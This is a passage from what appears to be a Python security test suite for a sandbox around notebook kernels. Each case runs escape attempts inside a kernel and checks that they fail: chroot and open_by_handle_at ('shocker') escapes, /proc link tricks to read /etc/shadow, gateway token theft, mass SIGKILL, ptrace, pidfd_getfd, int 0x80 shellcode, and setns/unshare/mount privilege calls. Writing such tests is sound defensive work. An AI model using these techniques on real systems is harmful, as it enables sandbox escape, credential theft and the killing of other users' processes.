_try('sysrq', lambda: _open('/proc/sysrq-trigger', 'w').write('h'))
_try('sethostname', lambda: _os().sethostname('scpwn') if hasattr(_os(), 'sethostname') else None)
""")
    # invariants (core_pattern, hostname) are checked after every case; check here too
    if read_text("/proc/sys/kernel/core_pattern") != t.ctx.core_pattern0:
        breach("kernel.core_pattern was changed")
    t.check_reached(o, "core-pattern", "hostname")
    t.note_errnos(o, "core-pattern", "hostname", "sysrq")


@case("write-cgroup", "write")
def _(t):
    """The kernel's own cgroup: raise its memory and pids limits, move itself to the root
    cgroup (from outside: its cgroup and the limit must not change)."""
    k = t.kernel()
    kp = k.inner_pid()
    cg0 = read_text("/proc/%d/cgroup" % kp)
    mem_path = None
    for line in (cg0 or "").splitlines():
        parts = line.split(":", 2)
        if len(parts) == 3 and "memory" in parts[1].split(","):
            mem_path = "/sys/fs/cgroup/memory" + parts[2]
    lim0 = read_text(os.path.join(mem_path, "memory.limit_in_bytes")) if mem_path else None
    o = t.run(k, """
O = _os()
def _cg():
    return _open('/proc/self/cgroup').read()
_try('own-cgroup', _cg)
def _w(p, v):
    return _open(p, 'w').write(v)
R = '/sys/fs/cgroup'
for i, (p, v) in enumerate([
        (R + '/memory/memory.limit_in_bytes', '-1'),
        (R + '/pids/pids.max', 'max'),
        (R + '/memory/cgroup.procs', str(O.getpid())),
        (R + '/cgroup.procs', str(O.getpid())),
        (R + '/memory.max', 'max'),
        (R + '/unified/cgroup.procs', str(O.getpid()))]):
    _try('cg-write-%d' % i, lambda: _w(p, v))
_try('mount-cgroup', lambda: _C().syscall(165, 'cgroup', '/tmp', 'cgroup', 0, 'memory'))
""")
    cg1 = read_text("/proc/%d/cgroup" % kp) if alive(kp) else cg0
    if cg1 != cg0:
        breach("the kernel moved itself to another cgroup: %r -> %r" % (cg0, cg1))
    if mem_path:
        lim1 = read_text(os.path.join(mem_path, "memory.limit_in_bytes"))
        if lim1 != lim0:
            breach("the kernel changed its memory limit: %s -> %s" % (lim0, lim1))
    t.check_reached(o, "cg-write-0", "cg-write-2")
    t.note_errnos(o, "cg-write-0", "cg-write-2")


# =============================================================================================
# 4. Symlink and hard-link tricks, /proc/self escapes, inherited descriptors
# =============================================================================================

@case("link-symlink-secret", "links", control=True)
def _(t):
    """A symlink in the workspace to the host secrets and /etc/shadow, then read through it."""
    k = t.kernel()
    targets = SECRET_PATHS + ["/etc/shadow", "/proc/1/root/root/scsec-secret.txt"]
    o = t.run(k, """
O = _os()
for i, p in enumerate(%r):
    n = 'scsec-link-%%d' %% i
    _try('symlink-%%d' %% i, lambda: O.symlink(p, n))
    _try('read-%%d' %% i, lambda: _open(n).read())
""" % targets)
    t.check_no_secrets(o)
    t.check_reached(o, "read-0", "read-2")
    t.note_errnos(o, "symlink-0", "read-0", "read-2")


@case("link-hardlink", "links", control=True)
def _(t):
    """link() of host files (the planted secrets, /etc/shadow) into the workspace: the host
    files' link counts must not change, their content must not come out."""
    k = t.kernel()
    o = t.run(k, """
O = _os()
for i, p in enumerate(%r):
    _try('link-%%d' %% i, lambda: O.link(p, 'scsec-hard-%%d' %% i))
    _try('read-%%d' %% i, lambda: _open('scsec-hard-%%d' %% i).read())
_try('linkat-proc', lambda: O.link('/proc/1/root/root/scsec-secret.txt', 'scsec-hard-x'))
""" % (SECRET_PATHS + ["/etc/shadow"]))
    t.check_no_secrets(o)
    t.check_reached(o, "link-0", "link-1")
    t.note_errnos(o, "link-0", "link-2")


@case("link-proc-self-root-cwd", "links")
def _(t):
    """/proc/self/root and /proc/self/cwd escapes: ../ beyond the root, /proc/self/root of the
    kernel's parent, /proc/<ppid>/cwd."""
    k = t.kernel()
    o = t.run(k, """
O = _os()
PP = O.getppid()
ps = ['/proc/self/root/../../root/scsec-secret.txt',
      '/proc/self/cwd/../../../../root/scsec-secret.txt',
      '/proc/self/cwd/../../../../tmp/scsec-host-secret.txt',
      '/proc/%d/root/root/scsec-secret.txt' % PP,
      '/proc/%d/cwd/../../scsec-host-secret.txt' % PP,
      '/proc/thread-self/root/root/scsec-secret.txt']
for i, p in enumerate(ps):
    _try('read-%d' % i, lambda: _open(p).read())
_try('readlink-cwd', lambda: O.readlink('/proc/self/cwd'))
""")
    t.check_no_secrets(o)
    t.check_reached(o, "read-0", "read-1", "read-3")
    t.note_errnos(o, "read-0", "read-3", "readlink-cwd")


@case("link-inherited-fds", "links")
def _(t):
    """Every descriptor the kernel inherited, through /proc/self/fd/N: directories used as
    anchors (openat '..', fchdir), files re-opened for writing, sockets re-used to connect to a
    test listener."""
    li = t.listener("tcp4")
    k = t.kernel()
    before = kernel_sockets(k)
    o = t.run(k, """
O = _os()
SK = _mod('_socket')
res = []
for n in O.listdir('/proc/self/fd'):
    fd = int(n)
    try:
        target = O.readlink('/proc/self/fd/%%d' %% fd)
    except OSError:
        continue
    res.append((fd, target))
    if target.startswith('/') and not target.startswith('/dev'):
        _try('reopen-w-%%d' %% fd, lambda: _open('/proc/self/fd/%%d' %% fd, 'a').write(''))
        _try('dotdot-%%d' %% fd, lambda: _open('/proc/self/fd/%%d/../../../root/scsec-secret.txt' %% fd).read())
        def _fch():
            O.fchdir(fd)
            return _open('../../../../root/scsec-secret.txt').read()
        _try('fchdir-%%d' %% fd, _fch)
    if target.startswith('socket:'):
        def _s():
            s = SK.socket(fileno=O.dup(fd))
            _KEEP.append(s)
            return (s.family, s.type, s.getsockname())
        _try('sock-%%d' %% fd, _s)
_p('FDS', res)
_try('abs-anchor', lambda: _open('/proc/self/fd/0/../root/scsec-secret.txt').read())
_try('connect-tcp', lambda: _connect(2, 1, %s))
""" % li.attack_addr())
    t.check_no_secrets(o)
    t.check_no_arrivals(li)
    check_no_new_sockets(t, k, before)
    t.check_reached(o, "connect-tcp", "abs-anchor")
    fds = [x for x in o.stdout.splitlines() if x.startswith("FDS")]
    t.note("fds: %s" % (fds[0][4:200] if fds else "?"))


@case("link-chroot-escape", "links")
def _(t):
    """The classic chroot escape (mkdir x; chroot x; chdir ../../..; chroot .) and
    pivot_root, then read the host secret."""
    k = t.kernel()
    o = t.run(k, """
O = _os()
_try('mkdir', lambda: O.mkdir('scsec-jail'))
_try('chroot', lambda: O.chroot('scsec-jail'))
def _up():
    for i in range(30):
        O.chdir('..')
    O.chroot('.')
    return _open('/root/scsec-secret.txt').read()
_try('escape-read', _up)
_sys_try('pivot-root', 155, '.', 'scsec-jail')
""")
    t.check_no_secrets(o)
    t.check_reached(o, "chroot")
    t.note_errnos(o, "chroot", "escape-read", "pivot-root")


@case("link-open-by-handle", "links")
def _(t):
    """open_by_handle_at on the ext4 root inode (the 'shocker' container escape), then openat
    relative to it to the ext4 secret in the build tree."""
    rel = os.path.relpath(os.path.join(t.ctx.ext4_dir, "ext4-secret.txt"), "/")
    k = t.kernel()
    o = t.run(k, """
def _sh():
    C = _C()
    mfd, e = C.syscall(257, -100, '/', 0o200000)  # O_DIRECTORY
    if mfd < 0:
        raise OSError(e, 'open / ' + _errname(e))
    h = (8).to_bytes(4, 'little') + (1).to_bytes(4, 'little') + (2).to_bytes(4, 'little') + bytes(4)
    fd, e = C.syscall(304, mfd, h, 0o200000)
    if fd < 0:
        raise OSError(e, 'open_by_handle_at ' + _errname(e))
    f2, e = C.syscall(257, fd, %r, 0)
    if f2 < 0:
        raise OSError(e, 'openat ' + _errname(e))
    b = C.buf(4096)
    n, e = C.syscall(0, f2, b, 4096)
    return b.raw[:max(n, 0)]
_try('shocker', _sh)
""" % rel)
    t.check_no_secrets(o)
    t.check_reached(o, "shocker")
    t.note_errnos(o, "shocker")


# =============================================================================================
# 5. Sockets of every family
# =============================================================================================

def net_case(t, kind, proto=0, extra=""):
    li = t.listener(kind)
    k = t.kernel()
    before = kernel_sockets(k)
    o = t.run(k, """
_try('connect', lambda: _connect(%d, %d, %s, proto=%d))
_sys_try('socket-native', 41, %d, %d, %d)
%s
""" % (li.family(), li.stype(), li.attack_addr(), proto, li.family(), li.stype(), proto, extra))
    t.check_no_arrivals(li)
    check_no_new_sockets(t, k, before)
    t.check_reached(o, "connect")
    t.note_errnos(o, "connect")
    return o


@case("net-tcp4", "net", profiles=("strict", "moderate", "permissive"), control=True)
def _(t):
    """AF_INET TCP to a listener of the test on 127.0.0.1 (the outer net namespace)."""
    net_case(t, "tcp4")


@case("net-udp4", "net", profiles=("strict", "moderate", "permissive"), control=True)
def _(t):
    """AF_INET UDP datagram to the test's socket on 127.0.0.1."""
    net_case(t, "udp4")


@case("net-tcp6", "net", profiles=("strict", "moderate", "permissive"), needs=("ipv6",))
def _(t):
    """AF_INET6 TCP to the test's listener on ::1."""
    net_case(t, "tcp6")


@case("net-udp6", "net", needs=("ipv6",))
def _(t):
    """AF_INET6 UDP to the test's socket on ::1."""
    net_case(t, "udp6")


@case("net-mptcp", "net")
def _(t):
    """Multipath TCP (IPPROTO_MPTCP = 262) to the test's TCP listener."""
    net_case(t, "tcp4", proto=262)


@case("net-unix-runtime-decoy", "net", control=True)
def _(t):
    """AF_UNIX pathname socket: a listener of the test inside the gateway's runtime directory,
    next to the kernels' ipc endpoints."""
    path = os.path.join(t.ctx.server.runtime_dir, "scsec-decoy-%s" % os.urandom(3).hex())
    li = t.listener("unix", path=path)
    k = t.kernel()
    before = kernel_sockets(k)
    o = t.run(k, "_try('connect', lambda: _connect(1, 1, %r))\n" % path)
    t.check_no_arrivals(li)
    check_no_new_sockets(t, k, before)
    t.check_reached(o, "connect")
    t.note_errnos(o, "connect")


@case("net-unix-kernel-endpoints", "net")
def _(t):
    """AF_UNIX connections to another kernel's ipc endpoints (shell, iopub, stdin, control,
    heartbeat), held open; counted from outside on the victim's side; the victim keeps
    working."""
    victim = t.kernel()
    eps = victim.endpoints()
    if not eps:
        error("the victim has no ipc endpoints (transport is not ipc)")
    vp = victim.inner_pid()
    count0 = {e: unix_connected(vp, e) for e in eps}
    k = t.kernel()
    before = kernel_sockets(k)
    o = t.run(k, """
for i, ep in enumerate(%r):
    _try('connect-%%d' %% i, lambda: _connect(1, 1, ep, payload=b'\\xff' + bytes(8) + b'\\x7f'))
""" % eps)
    time.sleep(0.3)
    grew = [e for e in eps if unix_connected(vp, e) > count0[e]]
    if grew:
        breach("connections from the attacker arrived at the victim's endpoints: %s"
               % ", ".join(os.path.basename(e) for e in grew))
    check_no_new_sockets(t, k, before)
    t.check_kernel_ok(victim, "the victim kernel")
    t.check_reached(o, "connect-0")
    t.note_errnos(o, "connect-0")


@case("net-abstract-unix", "net", control=True)
def _(t):
    """Abstract AF_UNIX socket (no file; scoped by network namespace) of the test."""
    li = t.listener("abstract")
    k = t.kernel()
    before = kernel_sockets(k)
    o = t.run(k, "_try('connect', lambda: _connect(1, 1, %s))\n" % li.attack_addr())
    t.check_no_arrivals(li)
    check_no_new_sockets(t, k, before)
    t.check_reached(o, "connect")
    t.note_errnos(o, "connect")


@case("net-unix-dgram", "net")
def _(t):
    """AF_UNIX datagram to a socket of the test in the scratch directory (world-writable)."""
    li = t.listener("unixdgram")
    k = t.kernel()
    o = t.run(k, "_try('sendto', lambda: _connect(1, 2, %r))\n" % li.path)
    t.check_no_arrivals(li)
    t.check_reached(o, "sendto")
    t.note_errnos(o, "sendto")


@case("net-system-sockets", "net")
def _(t):
    """Host service sockets: decoys of the D-Bus system bus, docker.sock and
    systemd-journald at their usual paths."""
    os.makedirs("/run/dbus", exist_ok=True)
    os.makedirs("/run/systemd/journal", exist_ok=True)
    paths = ["/run/dbus/system_bus_socket", "/run/docker.sock", "/run/systemd/private"]
    lis = [t.listener("unix", path=p) for p in paths]
    jl = t.listener("unixdgram", path="/run/systemd/journal/socket")
    k = t.kernel()
    o = t.run(k, """
for i, p in enumerate(%r):
    _try('connect-%%d' %% i, lambda: _connect(1, 1, p))
    _try('connect-var-%%d' %% i, lambda: _connect(1, 1, '/var' + p))
_try('journal', lambda: _connect(1, 2, '/run/systemd/journal/socket'))
""" % paths)
    t.check_no_arrivals(*(lis + [jl]))
    t.check_reached(o, "connect-0", "journal")
    t.note_errnos(o, "connect-0", "journal")


@case("net-gateway-http", "net", control=True)
def _(t):
    """The gateway's own HTTP port with a token stolen from /proc/<gateway>/cmdline (or none):
    GET /api/scpwn-... must never reach the gateway (its debug log is checked)."""
    tag = "scpwn-%s-%s-%s" % (t.case.name, t.profile, os.urandom(3).hex())
    k = t.kernel()
    o = t.run(k, """
def _tok():
    try:
        a = _open('/proc/%d/cmdline', 'rb').read().split(b'\\0')
        return a[a.index(b'--token') + 1].decode()
    except Exception:
        return ''
T = _tok()
def _get():
    s = _sock(2, 1, 0)
    s.settimeout(3)
    s.connect(('127.0.0.1', %d))
    s.send(('GET /api/%s?token=' + T + ' HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n').encode())
    return s.recv(200)
_try('http', _get)
""" % (t.ctx.gw_pid, t.ctx.server.port, tag))
    time.sleep(0.3)
    if tag in t.ctx.server.log_tail(200000):
        breach("the attack's HTTP request reached the gateway (logged %s)" % tag)
    t.check_no_secrets(o)
    t.check_reached(o, "http")
    t.note_errnos(o, "http")


@case("net-netlink", "net", control=True)
def _(t):
    """AF_NETLINK route socket: RTM_NEWADDR adding 10.213.x.y/32 to lo; from outside, the
    outer loopback's addresses must not change."""
    k = t.kernel()
    before = kernel_sockets(k)
    lo0 = lo_addresses()
    o = t.run(k, """
def _nl():
    S = _mod('_socket')
    s = S.socket(16, 3, 0)
    _KEEP.append(s)
    s.bind((0, 0))
    def rta(t_, data):
        ln = 4 + len(data)
        return ln.to_bytes(2, 'little') + t_.to_bytes(2, 'little') + data + bytes((4 - ln %% 4) %% 4)
    addr = bytes([10, 213, %d, %d])
    body = bytes([2, 32, 0, 0]) + (1).to_bytes(4, 'little') + rta(2, addr) + rta(1, addr)
    hdr_len = 16 + len(body)
    msg = hdr_len.to_bytes(4, 'little') + (20).to_bytes(2, 'little') + (0x1 | 0x4 | 0x400 | 0x200).to_bytes(2, 'little') + (1).to_bytes(4, 'little') + bytes(4) + body
    s.sendto(msg, (0, 0))
    return s.recv(4096)[:64]
_try('netlink-newaddr', _nl)
""" % (os.getpid() % 250, len(t.ctx.secrets) % 250))
    lo1 = lo_addresses()
    if lo1 != lo0:
        breach("the outer loopback's addresses changed: %s -> %s" % (lo0, lo1))
    check_no_new_sockets(t, k, before)
    t.check_reached(o, "netlink-newaddr")
    t.note_errnos(o, "netlink-newaddr")


@case("net-packet-raw", "net", control=True)
def _(t):
    """AF_PACKET (sniffing the loopback) and raw IPv4 ICMP: an echo request carrying a tag,
    watched for by a raw socket of the test."""
    li = t.listener("icmp")
    k = t.kernel()
    before = kernel_sockets(k)
    o = t.run(k, """
def _pk():
    s = _sock(17, 3, 0x0300)
    s.settimeout(0.5)
    try:
        return s.recv(2048)[:16]
    except Exception as e:
        return 'open, recv: %%r' %% (e,)
_try('packet', _pk)
def _icmp():
    s = _sock(2, 3, 1)
    pl = %r
    b = bytes([8, 0, 0, 0, 0, 1, 0, 1]) + pl
    c = 0
    for i in range(0, len(b), 2):
        c += (b[i] << 8) + (b[i + 1] if i + 1 < len(b) else 0)
    c = (c >> 16) + (c & 0xffff)
    c = ~(c + (c >> 16)) & 0xffff
    b = b[:2] + bytes([c >> 8, c & 255]) + b[4:]
    s.sendto(b, ('127.0.0.1', 0))
    return 'sent'
_try('raw-icmp', _icmp)
_try('icmp-dgram', lambda: _sock(2, 2, 1))
""" % li.tag.encode())
    t.check_no_arrivals(li)
    check_no_new_sockets(t, k, before)
    t.check_reached(o, "packet", "raw-icmp")
    t.note_errnos(o, "packet", "raw-icmp", "icmp-dgram")


@case("net-socketpair", "net")
def _(t):
    """socketpair of AF_UNIX, AF_INET and AF_NETLINK: no new socket may reach anything
    outside the kernel (an AF_UNIX pair whose both ends the kernel holds is allowed by the
    policy for asyncio; the seccomp probe reports it separately)."""
    k = t.kernel()
    before = kernel_sockets(k)
    o = t.run(k, """
_try('socketpair', lambda: _KEEP.append(_mod('_socket').socketpair(1, 1, 0)))
_try('socketpair-inet', lambda: _KEEP.append(_mod('_socket').socketpair(2, 1, 0)))
_sys_try('socketpair-native', 53, 1, 1, 0, ('buf', 64))
_sys_try('socketpair-netlink', 53, 16, 3, 0, ('buf', 64))
""")
    check_no_new_sockets(t, k, before, self_pairs_ok=True)
    t.check_reached(o, "socketpair")
    t.note_errnos(o, "socketpair", "socketpair-native")


@case("net-vsock", "net")
def _(t):
    """AF_VSOCK to the hypervisor host (CID 2) and to the local CID."""
    k = t.kernel()
    before = kernel_sockets(k)
    o = t.run(k, """
_try('vsock-host', lambda: _connect(40, 1, (2, 1024), timeout=1))
_try('vsock-local', lambda: _connect(40, 1, (1, 1024), timeout=1))
""")
    check_no_new_sockets(t, k, before)
    t.check_reached(o, "vsock-host")
    t.note_errnos(o, "vsock-host", "vsock-local")


@case("net-every-family", "net", control=True)
def _(t):
    """socket() for every address family 1..45 and types stream/dgram/raw/seqpacket: from
    outside, the kernel must hold no new socket afterwards."""
    k = t.kernel()
    before = kernel_sockets(k)
    o = t.run(k, """
S = _mod('_socket')
made = []
for fam in range(1, 46):
    for ty in (1, 2, 3, 5):
        try:
            s = S.socket(fam, ty, 0)
            _KEEP.append(s)
            made.append((fam, ty))
        except OSError:
            pass
_p('MADE', made)
_try('socket-inet', lambda: _sock(2, 1, 0))
""")
    check_no_new_sockets(t, k, before)
    t.check_reached(o, "socket-inet")
    made = [x for x in o.stdout.splitlines() if x.startswith("MADE")]
    if made and made[0] != "MADE []":
        breach("the kernel created sockets: %s" % made[0][5:300])


@case("net-io-uring", "net")
def _(t):
    """io_uring_setup through syscall(): io_uring can open files and sockets without the
    syscalls a filter sees. From outside: the kernel holds no io_uring descriptor."""
    k = t.kernel()
    o = t.run(k, """
fd, e = _sys_try('io-uring-setup', 425, 8, ('buf', 120))
""")
    for pid in k.pids():
        for tgt in __import__("lib").fd_targets(pid).values():
            if "io_uring" in tgt:
                breach("the kernel holds an io_uring instance (%s)" % tgt)
    t.check_reached(o, "io-uring-setup")
    t.note_errnos(o, "io-uring-setup")


# =============================================================================================
# 6. Signals and ptrace against other processes
# =============================================================================================

@case("sig-kill-all", "signal", exclusive=True)
def _(t):
    """kill(-1, SIGKILL) and kill(-1, SIGSTOP): every process the kernel can signal. The test
    runner, the gateway, the sleeper and another kernel must all live on (if the runner is
    killed, pid 1 of the outer net reports this case)."""
    victim = t.kernel()
    vpids = victim.pids()
    k = t.kernel()
    o = t.run(k, """
O = _os()
_try('kill-minus-one-stop', lambda: O.kill(-1, 19))
_try('kill-minus-one', lambda: O.kill(-1, 9))
""", timeout=30)
    time.sleep(0.3)
    t.check_alive(t.ctx.sleeper, "the test's sleeper")
    for p in vpids:
        t.check_alive(p, "the victim kernel's process")
    t.check_kernel_ok(victim, "the victim kernel")
    if o.died is None:
        t.check_reached(o, "kill-minus-one")
    t.note_errnos(o, "kill-minus-one-stop", "kill-minus-one")


@case("sig-kill-scan", "signal", exclusive=True)
def _(t):
    """SIGKILL to every pid listed in /proc and to pids 1..4000 by number (but its own)."""
    victim = t.kernel()
    vpids = victim.pids()
    k = t.kernel()
    o = t.run(k, """
O = _os()
me = O.getpid()
def _scan():
    n = 0
    for x in O.listdir('/proc'):
        if x.isdigit() and int(x) != me:
            try:
                O.kill(int(x), 9); n += 1
            except OSError:
                pass
    return n
_try('kill-listed', _scan)
def _num():
    n = 0
    for p in range(1, 4000):
        if p != me:
            try:
                O.kill(p, 9); n += 1
            except OSError:
                pass
    return n
_try('kill-numbers', _num)
_try('kill-gateway', lambda: O.kill(%d, 9))
""" % t.ctx.gw_pid, timeout=60)
    time.sleep(0.3)
    t.check_alive(t.ctx.sleeper, "the test's sleeper")
    for p in vpids:
        t.check_alive(p, "the victim kernel's process")
    t.check_kernel_ok(victim, "the victim kernel")
    if o.died is None:
        t.check_reached(o, "kill-gateway")
    t.note_errnos(o, "kill-listed", "kill-numbers", "kill-gateway")


@case("sig-gateway", "signal", exclusive=True, control=True)
def _(t):
    """SIGSTOP, SIGTERM, SIGKILL to the gateway by pid, and to its process group."""
    g = t.ctx.gw_pid
    pgid = proc_stat(g)["pgrp"]
    k = t.kernel()
    o = t.run(k, """
O = _os()
_try('stop', lambda: O.kill(%d, 19))
_try('killpg', lambda: O.killpg(%d, 19))
_try('term', lambda: O.kill(%d, 15))
_try('kill', lambda: O.kill(%d, 9))
""" % (g, pgid, g, g), timeout=10)
    time.sleep(0.3)
    p = t.ctx.gateway_problem()
    if p:
        breach(p)
    t.check_reached(o, "stop", "kill")
    t.note_errnos(o, "stop", "kill")


@case("sig-sleeper", "signal", exclusive=True, control=True)
def _(t):
    """SIGSTOP, SIGTERM and SIGKILL to a process of the test outside the sandbox, and SIGKILL
    to pid 1 and to its own process group's parent."""
    pid = t.sleeper()
    k = t.kernel()
    o = t.run(k, """
O = _os()
_try('stop', lambda: O.kill(%d, 19))
_try('term', lambda: O.kill(%d, 15))
_try('kill', lambda: O.kill(%d, 9))
_try('kill-ppid', lambda: O.kill(O.getppid(), 19))
_try('kill-1', lambda: O.kill(1, 19))
""" % (pid, pid, pid), timeout=10)
    time.sleep(0.3)
    t.check_alive(pid, "the test's sleeper")
    t.check_reached(o, "stop", "kill")
    t.note_errnos(o, "stop", "kill", "kill-ppid", "kill-1")


@case("sig-other-kernel", "signal")
def _(t):
    """SIGSTOP and SIGKILL to every process of another kernel (outer pids), and pidfd-based
    signals; the victim keeps answering."""
    victim = t.kernel()
    vp = victim.pids()
    k = t.kernel()
    o = t.run(k, """
O = _os()
for p in %r:
    _try('stop-%%d' %% p, lambda: O.kill(p, 19))
    _try('kill-%%d' %% p, lambda: O.kill(p, 9))
    def _pfd():
        C = _C()
        fd, e = C.syscall(434, p, 0)
        if fd < 0:
            raise OSError(e, 'pidfd_open ' + _errname(e))
        r, e = C.syscall(424, fd, 9, 0, 0)
        return (r, _errname(e))
    _try('pidfd-kill-%%d' %% p, _pfd)
""" % vp)
    time.sleep(0.3)
    for p in vp:
        t.check_alive(p, "the victim kernel's process")
    t.check_kernel_ok(victim, "the victim kernel")
    t.check_reached(o, "kill-%d" % vp[0])


@case("sig-ptrace", "signal", exclusive=True, control=True)
def _(t):
    """ptrace(PTRACE_ATTACH) and PTRACE_SEIZE on the test's sleeper and on the gateway; from
    outside, neither may end up traced or stopped."""
    pid = t.sleeper()
    k = t.kernel()
    o = t.run(k, """
_sys_try('attach-sleeper', 101, 16, %d, 0, 0)
_sys_try('seize-sleeper', 101, 0x4206, %d, 0, 0)
_sys_try('attach-gateway', 101, 16, %d, 0, 0)
_sys_try('traceme', 101, 0, 0, 0, 0)
""" % (pid, pid, t.ctx.gw_pid), timeout=10)
    time.sleep(0.3)
    t.check_alive(pid, "the test's sleeper")
    p = t.ctx.gateway_problem()
    if p:
        breach(p)
    t.check_reached(o, "attach-sleeper")
    t.note_errnos(o, "attach-sleeper", "seize-sleeper", "attach-gateway", "traceme")


@case("sig-process-vm-readv", "signal")
def _(t):
    """process_vm_readv of the sleeper's stack (address known to the attacker), looking for
    its secrets."""
    pid = t.sleeper()
    a, b = sleeper_stack(pid)
    n = min(b - a, 128 * 1024)
    start = b - n
    k = t.kernel()
    o = t.run(k, """
def _pv():
    C = _C()
    buf = C.buf(%d)
    loc = C.addr(buf).to_bytes(8, 'little') + (%d).to_bytes(8, 'little')
    rem = (%d).to_bytes(8, 'little') + (%d).to_bytes(8, 'little')
    r, e = C.syscall(310, %d, loc, 1, rem, 1, 0)
    if r < 0:
        raise OSError(e, 'process_vm_readv ' + _errname(e))
    d = buf.raw[:r]
    return [d[max(0, i - 4):i + 60] for i in range(len(d)) if d.startswith(b'SCSEC', i)]
_try('vm-readv', _pv, show=4000)
""" % (n, n, start, n, pid))
    t.check_no_secrets(o)
    t.check_reached(o, "vm-readv")
    t.note_errnos(o, "vm-readv")


@case("sig-pidfd-getfd", "signal", exclusive=True)
def _(t):
    """pidfd_open on the gateway and pidfd_getfd of its descriptors 0..40 (its listening
    socket, its log): from outside, the kernel must hold no TCP socket afterwards."""
    k = t.kernel()
    before = kernel_sockets(k)
    o = t.run(k, """
def _steal():
    C = _C()
    pfd, e = C.syscall(434, %d, 0)
    if pfd < 0:
        raise OSError(e, 'pidfd_open ' + _errname(e))
    got = []
    for n in range(41):
        fd, e = C.syscall(438, pfd, n, 0)
        if fd >= 0:
            got.append((n, _os().readlink('/proc/self/fd/%%d' %% fd)))
    return got
_try('pidfd-getfd', _steal)
""" % t.ctx.gw_pid)
    check_no_new_sockets(t, k, before)
    t.check_reached(o, "pidfd-getfd")
    t.note_errnos(o, "pidfd-getfd")


# i386 shellcode: push rbx; mov eax, NR; mov ebx, A; mov ecx, B; mov edx, C; int 0x80; pop rbx; ret
def i386_code(nr, a, b, c=0):
    import struct
    return (b"\x53" + b"\xb8" + struct.pack("<I", nr) + b"\xbb" + struct.pack("<I", a & 0xffffffff)
            + b"\xb9" + struct.pack("<I", b & 0xffffffff) + b"\xba" + struct.pack("<I", c & 0xffffffff)
            + b"\xcd\x80" + b"\x5b" + b"\xc3")


@case("sig-int80-kill", "signal", needs=("ia32",))
def _(t):
    """The 32-bit syscall ABI: `int 0x80` machine code (via _ctypes) calling i386 kill(sleeper,
    SIGKILL), which a filter that only knows x86-64 numbers would miss."""
    pid = t.sleeper()
    k = t.kernel()
    o = t.run(k, """
def _k():
    r, a = _C().run_code(%r)
    return r
_try('int80-kill', _k)
""" % i386_code(37, pid, 9))
    time.sleep(0.3)
    t.check_alive(pid, "the test's sleeper")
    t.check_reached(o, "int80-kill")
    t.note_errnos(o, "int80-kill")


# =============================================================================================
# 7. Privilege and namespace syscalls
# =============================================================================================

@case("priv-setuid-root", "priv", control=True)
def _(t):
    """setuid(0)/setresuid/setgid/setgroups, then write into root-only host directories
    (/root is 0755 root: only uid 0 of the host may write there)."""
    m = t.marker("/root")
    k = t.kernel()
    o = t.run(k, """
O = _os()
_sys_try('setuid', 105, 0)
_sys_try('setresuid', 117, 0, 0, 0)
_sys_try('setgid', 106, 0)
_sys_try('setgroups', 116, 0, 0)
_sys_try('capset', 126, (0x20080522).to_bytes(4, 'little') + bytes(4), bytes([255]) * 24)
_try('uid', lambda: (O.getuid(), O.geteuid()))
_try('write-root', lambda: _open(%r, 'w').write('x'))
""" % m)
    t.check_markers()
    t.check_reached(o, "setuid", "write-root")
    t.note_errnos(o, "setuid", "setresuid", "capset", "write-root")


@case("priv-unshare-mount", "priv")
def _(t):
    """unshare(CLONE_NEWUSER|CLONE_NEWNS) (in a forked, single-threaded child where fork is
    allowed), uid_map, then bind-mount / and read the host secret."""
    k = t.kernel()
    o = t.run(k, """
O = _os()
_sys_try('unshare-ns', 272, 0x00020000)
_sys_try('unshare-user', 272, 0x10000000)
_sys_try('unshare-net', 272, 0x40000000)
_sys_try('mount-bind-root', 165, '/', '.', 0, 0x1000 | 0x4000, 0)
_try('read-after', lambda: _open('root/scsec-secret.txt').read())
def _child():
    r, w = O.pipe()
    pid = O.fork()
    if pid == 0:
        try:
            C = _C()
            res = []
            res.append(('unshare', C.syscall(272, 0x10000000 | 0x00020000)))
            try:
                _open('/proc/self/setgroups', 'w').write('deny')
                _open('/proc/self/uid_map', 'w').write('0 %d 1' % O.getuid())
            except Exception as e:
                res.append(('map', repr(e)))
            O.mkdir('scsec-mnt')
            res.append(('mount', C.syscall(165, '/', 'scsec-mnt', 0, 0x1000 | 0x4000, 0)))
            try:
                res.append(('read', _open('scsec-mnt/root/scsec-secret.txt').read()))
            except Exception as e:
                res.append(('read', repr(e)))
            O.write(w, repr(res).encode())
        finally:
            O._exit(0)
    O.close(w)
    O.waitpid(pid, 0)
    return O.read(r, 65536)
_try('child-userns', _child)
""")
    t.check_no_secrets(o)
    t.check_reached(o, "unshare-user", "mount-bind-root")
    t.note_errnos(o, "unshare-ns", "unshare-user", "mount-bind-root", "child-userns")


@case("priv-setns", "priv")
def _(t):
    """setns() into the namespaces of /proc/1 and of the gateway (mnt, net, pid, user), then
    read the host secret and connect to the test's listener."""
    li = t.listener("tcp4")
    k = t.kernel()
    o = t.run(k, """
O = _os()
for pid in (1, %d):
    for ns in ('user', 'mnt', 'net', 'pid', 'ipc', 'uts'):
        def _s():
            fd = O.open('/proc/%%d/ns/%%s' %% (pid, ns), 0)
            r, e = _C().syscall(308, fd, 0)
            if r < 0:
                raise OSError(e, 'setns ' + _errname(e))
            return r
        _try('setns-%%s-%%d' %% (ns, pid), _s)
_try('read-after', lambda: _open('/root/scsec-secret.txt').read())
_try('connect-after', lambda: _connect(2, 1, %s))
""" % (t.ctx.gw_pid, li.attack_addr()))
    t.check_no_secrets(o)
    t.check_no_arrivals(li)
    t.check_reached(o, "setns-mnt-1", "connect-after", any_of=True)
    t.note_errnos(o, "setns-mnt-1", "setns-mnt-%d" % t.ctx.gw_pid, "connect-after")


@case("priv-mount", "priv")
def _(t):
    """mount(2): the host's root block device, a new proc and sysfs, a bind of /, then read
    the ext4 secret through them; the new mount API (fsopen/fsmount/open_tree) too. Where the
    root device is unknown or unreadable the attempt still names a device: the mount must
    fail before the device matters."""
    rel = os.path.relpath(os.path.join(t.ctx.ext4_dir, "ext4-secret.txt"), "/")
    dev = t.ctx.root_dev[0] or "/dev/vda"
    k = t.kernel()
    o = t.run(k, """
O = _os()
_try('mkdir', lambda: O.mkdir('scsec-m'))
_sys_try('mount-dev', 165, %r, 'scsec-m', 'ext4', 1, 0)
_try('read-dev', lambda: _open('scsec-m/' + %r).read())
_sys_try('mount-proc', 165, 'proc', 'scsec-m', 'proc', 0, 0)
_sys_try('mount-bind', 165, '/', 'scsec-m', 0, 0x1000 | 0x4000, 0)
_sys_try('fsopen', 430, 'ext4', 0)
_sys_try('open-tree', 428, -100, '/', 1 | 0x80000)
